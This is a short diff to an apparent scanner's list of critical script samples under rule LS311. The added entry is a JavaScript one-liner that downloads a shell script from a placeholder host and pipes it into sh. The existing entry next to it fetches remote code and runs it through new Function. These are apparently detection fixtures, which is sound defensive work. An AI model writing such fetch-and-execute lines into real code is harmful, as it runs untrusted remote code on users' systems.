@@ -281,6 +281,11 @@ SCRIPT_CRITICAL = [
     (
         "js",
         "LS311",
+        "require('https').get('https://x.example/s.sh', r => r.pipe(require('child_process').spawn('sh').stdin))",
+    ),
+    (
+        "js",
+        "LS311",
         "const h = require('https');\nh.get('https://x.example/s', r => { let d = '';"
         " r.on('data', c => d += c); r.on('end', () => new Function(d)()); });",
     ),
